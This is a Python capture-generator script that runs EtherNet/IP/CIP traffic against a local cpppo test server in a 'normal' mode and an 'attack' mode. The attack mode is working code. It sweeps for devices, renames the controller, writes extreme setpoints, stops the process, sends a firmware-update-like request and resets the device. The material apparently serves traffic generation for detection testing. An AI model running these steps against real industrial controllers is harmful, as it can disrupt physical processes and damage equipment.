#!/usr/bin/env python3
"""EtherNet/IP + CIP clients for make-captures.sh: pycomm3, pylogix and scapy.

Three independent client stacks against one cpppo server:
  pycomm3  ListIdentity (UDP and TCP), RegisterSession, unconnected CIP
           requests (generic_message), Forward Open (0x54: the "extended
           forward open" option is off) / Forward Close, UnRegisterSession
  pylogix  tag services: Large Forward Open (0x5B), Read Tag (0x4C), Write Tag
           (0x4D), Multiple Service Packet (0x0A), Forward Close
  scapy    ListServices and ListInterfaces encapsulation requests (neither
           pycomm3 nor pylogix sends them)

TCP sockets get their source address from the bind_source.so shim
(LD_PRELOAD, BIND_SOURCE_ADDR); the UDP sockets bind --source themselves.

Modes:
  normal  an engineering station reading the controller (see run_normal)
  attack  an intruder: ListIdentity sweep, recon, Set Attribute Single,
          Forward Open to another slot, tag writes, a firmware-update-like
          request to the NVS object (class 0xA1) and an Identity reset
"""
import argparse
import socket
import struct
import sys
import time

from pycomm3 import CIPDriver
from pycomm3.packets import ListIdentityRequestPacket
from pylogix import PLC
from scapy.contrib.enipTCP import ENIPTCP

PORT = 44818


def say(msg):
    print(msg, flush=True)


def udp_list_identity(source, target, timeout=0.3):
    """ListIdentity (encapsulation 0x63) over UDP, built by pycomm3; returns the identity or None."""
    req = ListIdentityRequestPacket()
    msg = req.build_request(None, 0, b"\x00" * 8, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((source, 0))
        s.settimeout(timeout)
        s.sendto(msg, (target, PORT))
        try:
            data = s.recv(4096)
        except (socket.timeout, ConnectionRefusedError):
            return None
    resp = req.response_class(req, data)
    return resp.identity if resp else None


def scapy_encap(drv, command):
    """Send a bare encapsulation command (no data) built by scapy on the driver's TCP socket."""
    pkt = ENIPTCP(commandId=command, session=0, senderContext=0, options=0)
    drv._sock.send(bytes(pkt))
    data = drv._sock.receive()
    cmd, length, session, status = struct.unpack_from("<HHII", data)
    say(f"  encapsulation {command:#06x}: reply command {cmd:#06x} status {status} "
        f"{length} bytes of data")
    return data


def cip(drv, name, **kw):
    kw.setdefault("connected", False)
    r = drv.generic_message(name=name, **kw)
    val = r.value
    if isinstance(val, bytes) and len(val) > 40:
        val = val[:40] + b"..."
    say(f"  {name}: {'ok' if not r.error else 'error: ' + str(r.error)} {val!r}")
    return r


def pycomm3_session(path):
    drv = CIPDriver(path)
    drv._cfg["extended forward open"] = False  # Forward Open 0x54, which cpppo understands
    drv.open()  # TCP connect + RegisterSession
    say(f"pycomm3 {path}: session {drv._session:#x}")
    return drv


def run_normal(args):
    say("UDP ListIdentity (pycomm3)")
    ident = udp_list_identity(args.source, args.host)
    if not ident:
        sys.exit("no ListIdentity reply over UDP")
    say(f"  {ident.get('product_name')} vendor {ident.get('vendor')} rev {ident.get('revision')}")
    time.sleep(0.2)

    # session 1: identity and connection management through pycomm3 (+ scapy)
    drv = pycomm3_session(args.host)
    scapy_encap(drv, 0x0004)  # ListServices
    say(f"  ListIdentity over TCP: {drv._list_identity().get('product_name')}")
    scapy_encap(drv, 0x0064)  # ListInterfaces
    cip(drv, "identity get_attributes_all", service=0x01, class_code=0x01, instance=1)
    for attr, what in ((1, "vendor id"), (7, "product name"), (5, "status")):
        cip(drv, f"identity get_attribute_single {attr} ({what})", service=0x0E, class_code=0x01,
            instance=1, attribute=attr)
    # connected explicit messaging: pycomm3 sends the Forward Open first
    cip(drv, "connected get_attribute_single 7 (product name)", service=0x0E, class_code=0x01,
        instance=1, attribute=7, connected=True)
    cip(drv, "connected get_attribute_single 6 (serial number)", service=0x0E, class_code=0x01,
        instance=1, attribute=6, connected=True)
    drv.close()  # Forward Close + UnRegisterSession
    say("pycomm3 session closed")
    time.sleep(0.2)

    # session 2: tag services through pylogix
    with PLC(args.host) as plc:
        plc.SocketTimeout = 5.0
        for cycle in range(args.cycles):
            for r in plc.Read(["Level", "Setpoint", "Running", "Counter[1]"]):
                say(f"  read {r.TagName} = {r.Value} ({r.Status})")
            time.sleep(0.2)
        say(f"  read {plc.Read('Level', count=10).Value}")
        say(f"  write Setpoint {plc.Write('Setpoint', 47.5).Status}")
        say(f"  write Level[5] {plc.Write('Level[5]', 512).Status}")
        for r in plc.Write([("Counter[2]", 100), ("Running", True)]):
            say(f"  write {r.TagName} {r.Status}")
        say(f"  read Setpoint = {plc.Read('Setpoint').Value}")
        props = plc.GetDeviceProperties().Value
        say(f"  device: {props.ProductName} serial {props.SerialNumber}")
    say("pylogix session closed")


def run_attack(args):
    prefix = args.host.rsplit(".", 1)[0]
    say(f"UDP ListIdentity sweep {prefix}.1-{prefix}.{args.sweep}")
    for i in range(1, args.sweep + 1):
        ident = udp_list_identity(args.source, f"{prefix}.{i}", timeout=0.15)
        if ident:
            say(f"  {prefix}.{i}: {ident.get('product_name')} serial {ident.get('serial')}")
    time.sleep(0.5)

    # 1: recon and Set Attribute Single (0x10): rename the device, then the TCP/IP object's
    # host name
    drv = pycomm3_session(args.host)
    say(f"  ListIdentity over TCP: {drv._list_identity().get('product_name')}")
    cip(drv, "identity get_attributes_all", service=0x01, class_code=0x01, instance=1)
    cip(drv, "identity set_attribute_single 7 (product name)", service=0x10, class_code=0x01,
        instance=1, attribute=7, request_data=b"\x05PWNED")
    cip(drv, "tcpip set_attribute_single 6 (host name)", service=0x10, class_code=0xF5,
        instance=1, attribute=6, request_data=b"\x05\x00evil0\x00")
    drv.close()
    time.sleep(0.5)

    # 2: Forward Open (0x54) to another target: the module in backplane slot 3
    drv = pycomm3_session(f"{args.host}/bp/3")
    cip(drv, "slot 3 connected get_attribute_single 7", service=0x0E, class_code=0x01,
        instance=1, attribute=7, connected=True)
    drv.close()
    time.sleep(0.5)

    # 3: tag writes through pylogix
    with PLC(args.host) as plc:
        for r in plc.Read(["Level", "Setpoint", "Running"]):
            say(f"  read {r.TagName} = {r.Value} ({r.Status})")
        say(f"  write Setpoint {plc.Write('Setpoint', 999.0).Status}")
        say(f"  write Level[0] {plc.Write('Level[0]', 9999).Status}")
        say(f"  write Running {plc.Write('Running', False).Status}")
        for r in plc.Write([("Counter[0]", 0), ("Counter[1]", 0), ("Counter[2]", 0),
                            ("Counter[3]", 0)]):
            say(f"  write {r.TagName} {r.Status}")
        say(f"  read Setpoint = {plc.Read('Setpoint').Value}")
    time.sleep(0.5)

    # 4: a firmware-update-like request: Update (0x4B) to the Non-Volatile Storage object
    # (class 0xA1, instance 1), as ControlFLASH starts a firmware update; 5: Identity Reset
    # (0x05), type 0 (as if power-cycled). cpppo has no class 0xA1 and no answer for either:
    # it sends a SendRRData reply without CIP data and ends the session. So each request
    # goes alone on its own connection, and the client then closes its socket without
    # UnRegisterSession.
    for name, kw in (("nvs update", dict(service=0x4B, class_code=0xA1, instance=1,
                                         request_data=struct.pack("<HHH", 1, 0, 128))),
                     ("identity reset type 0", dict(service=0x05, class_code=0x01, instance=1,
                                                    request_data=b"\x00"))):
        drv = pycomm3_session(args.host)
        try:
            cip(drv, name, **kw)
        except Exception as err:  # pycomm3 cannot parse the empty reply
            say(f"  {name}: {err}")
        drv._session = 0
        drv._target_is_connected = False
        time.sleep(0.3)  # the server's FIN first
        drv.close()
        time.sleep(0.5)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.10")
    ap.add_argument("--source", default="127.0.0.5")
    ap.add_argument("--mode", choices=("normal", "attack"), default="normal")
    ap.add_argument("--cycles", type=int, default=3, help="normal: multi-read poll cycles")
    ap.add_argument("--sweep", type=int, default=20, help="attack: ListIdentity to .1 .. .N")
    args = ap.parse_args()
    {"normal": run_normal, "attack": run_attack}[args.mode](args)


if __name__ == "__main__":
    main()
